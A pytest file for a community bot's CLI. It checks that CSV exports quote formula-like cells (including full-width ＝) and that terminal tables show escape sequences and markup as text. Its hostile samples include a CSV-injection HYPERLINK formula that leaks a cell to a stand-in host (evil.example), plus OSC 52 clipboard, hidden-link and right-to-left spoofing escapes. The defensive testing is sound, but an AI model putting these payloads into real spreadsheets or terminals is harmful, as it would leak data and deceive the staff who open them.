"""What staff and residents wrote stays text in every export and terminal table: CSV cells
that look like formulas are quoted, rich markup is shown as written."""

from __future__ import annotations

import asyncio
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import yaml
from click.testing import CliRunner

from bot.cli import main
from bot.runtime import open_runtime
from bot.staff.csv_export import csv_text
from tests.conftest import make_settings
from tests.databases import database_for

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_formula_cells_are_quoted_and_numbers_stay_numbers() -> None:
    text = csv_text([[FORMULA, "+81", "-1", "@SUM(A1)", "\tx", "\rx", "a=b", -3, 2.5, None]])
    assert text == (
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"'
        ",'+81,'-1,'@SUM(A1),'\tx,\"'\nx\",a=b,-3,2.5,\n"
    )


def test_full_width_formula_starts_are_quoted_too() -> None:
    """Japanese Excel reads a typed ＝ (full width) as = : a counter name or a poll label a
    staff member typed with the IME on was a formula when the CSV was opened. Staff text is
    stored as typed (residents' is folded to half width already)."""
    cells = ['＝HYPERLINK("http://evil.example")', "＋81", "－1", "＠SUM(A1)", "a＝b"]
    assert csv_text([cells]).split(",") == [
        '"\'＝HYPERLINK(""http://evil.example"")"',
        "'＋81",
        "'－1",
        "'＠SUM(A1)",
        "a＝b\n",
    ]


def test_roster_and_poll_exports_and_tables_keep_hostile_names_as_text(
    tmp_path: Path, content_dir: Path
) -> None:
    settings = make_settings(tmp_path, content_dir)
    env = {"CHIIKI_DB": database_for(tmp_path), "CHIIKI_CONTENT_DIR": str(content_dir)}
    day = date.today() + timedelta(days=3)
    watch_file = tmp_path / "watch.yaml"
    watch_file.write_text(
        yaml.safe_dump(
            {
                "routes": [{"id": "east", "name": "[bold]東ルート", "meeting_point": "公民館"}],
                "shifts": [
                    {"route": "east", "date": str(day), "time": "07:20-08:10", "capacity": 2}
                ],
            },
            allow_unicode=True,
        ),
        "utf-8",
    )
    poll_file = tmp_path / "poll.yaml"
    poll_file.write_text(
        yaml.safe_dump(
            {
                "question": "[/x] 公園の名前",
                "choices": [FORMULA, "+1", "-1", "@SUM(A1)"],
                "closes_at": "2030-01-01T10:00:00+09:00",
            },
            allow_unicode=True,
        ),
        "utf-8",
    )
    runner = CliRunner()
    loaded = runner.invoke(main, ["watch", "load", str(watch_file)], env=env)
    assert loaded.exit_code == 0, loaded.output
    assert runner.invoke(main, ["poll", "create", str(poll_file)], env=env).exit_code == 0

    async def volunteers() -> None:
        async with open_runtime(settings) as runtime:
            now = datetime.now(UTC)
            residents = runtime.services.residents
            for user, name in (("b", FORMULA), ("a", "[/x]"), ("c", "[bold]")):
                row = await residents.get_or_create("web", user, "ja", now)
                await residents.give_consent(row.id, name, now)
                await runtime.services.watch.signups.sign_up(1, row.id, now)

    asyncio.run(volunteers())

    table = runner.invoke(main, ["watch", "roster"], env={**env, "COLUMNS": "300"})
    assert table.exit_code == 0, table.output
    assert "[/x]" in table.output and "[bold]" in table.output  # shown, not interpreted
    roster_csv = runner.invoke(main, ["watch", "roster", "--csv"], env=env)
    assert roster_csv.exit_code == 0, roster_csv.output
    assert "'=HYPERLINK" in roster_csv.output and ",=HYPERLINK" not in roster_csv.output
    polls = runner.invoke(main, ["poll", "list"], env={**env, "COLUMNS": "300"})
    assert polls.exit_code == 0 and "[/x] 公園の名前" in polls.output, polls.output
    results = runner.invoke(main, ["poll", "results", "1", "--csv"], env=env).output
    # Each choice has three rows (all, online, paper) after the three of the ballots.
    labels = [line.split(",", 2)[1] for line in results.splitlines()[4::3]]
    assert labels[1:] == ["'+1", "'-1", "'@SUM(A1)"] and results.count("'=HYPERLINK") == 3


ESCAPES = (
    "\x1b[2J",  # clears the screen
    "\x1b]52;c;ZXZpbA==\x07",  # OSC 52: writes the clipboard
    "\x1b]8;;http://evil.example/\x1b\\",  # OSC 8: a hidden link
    "\x9b31m",  # C1 CSI
    "\r",  # overwrites the line
    "\u202e",  # right-to-left override: "nimda" shown as "admin"
)
HOSTILE = "名前" + "".join(ESCAPES) + "nimda"


def _assert_shown_not_obeyed(output: str) -> None:
    for sequence in ("\x1b", "\x9b", "\x07", "\u202e"):
        assert sequence not in output, repr(output)
    assert "\ufffd" in output  # something was there, and staff can see it


def test_csv_cells_show_control_characters_never_send_them() -> None:
    text = csv_text([[HOSTILE, "行1\n行2\tタブ"]])
    assert "\x1b" not in text and "\u202e" not in text and "\x9b" not in text
    assert "行1\n行2\tタブ" in text  # line breaks and tabs are text


def test_terminal_tables_and_lines_show_escape_sequences_never_send_them(
    tmp_path: Path, content_dir: Path
) -> None:
    """A district account's watch file or poll, a resident's name or a login name typed at the
    dashboard could otherwise drive the terminal of whoever runs `chiiki`."""
    settings = make_settings(tmp_path, content_dir)
    env = {"CHIIKI_DB": database_for(tmp_path), "CHIIKI_CONTENT_DIR": str(content_dir)}
    day = date.today() + timedelta(days=3)
    watch_file = tmp_path / "watch.yaml"
    watch_file.write_text(
        yaml.safe_dump(
            {
                "routes": [{"id": "east", "name": HOSTILE, "meeting_point": "公民館"}],
                "shifts": [
                    {"route": "east", "date": str(day), "time": "07:20-08:10", "capacity": 2}
                ],
            },
            allow_unicode=True,
        ),
        "utf-8",
    )
    poll_file = tmp_path / "poll.yaml"
    poll_file.write_text(
        yaml.safe_dump(
            {
                "question": HOSTILE,
                "choices": [HOSTILE, "b"],
                "closes_at": "2030-01-01T10:00:00+09:00",
            },
            allow_unicode=True,
        ),
        "utf-8",
    )
    runner = CliRunner()
    assert runner.invoke(main, ["watch", "load", str(watch_file)], env=env).exit_code == 0
    created = runner.invoke(main, ["poll", "create", str(poll_file)], env=env)
    assert created.exit_code == 0, created.output
    _assert_shown_not_obeyed(created.output)

    async def volunteer_and_failed_login() -> None:
        from bot.staff.audit import record_login
        from bot.storage.audit import AuditRepository

        async with open_runtime(settings) as runtime:
            now = datetime.now(UTC)
            row = await runtime.services.residents.get_or_create("web", "v", "ja", now)
            await runtime.services.residents.give_consent(row.id, HOSTILE, now)
            await runtime.services.watch.signups.sign_up(1, row.id, now)
            await record_login(AuditRepository(runtime.db), HOSTILE, False, "192.0.2.1", now)

    asyncio.run(volunteer_and_failed_login())
    wide = {**env, "COLUMNS": "300"}
    for command in (["watch", "roster"], ["poll", "list"], ["audit"]):
        printed = runner.invoke(main, command, env=wide)
        assert printed.exit_code == 0, printed.output
        _assert_shown_not_obeyed(printed.output)
    for command in (["watch", "roster", "--csv"], ["poll", "results", "1", "--csv"]):
        printed = runner.invoke(main, command, env=env)
        assert printed.exit_code == 0, printed.output
        _assert_shown_not_obeyed(printed.output)
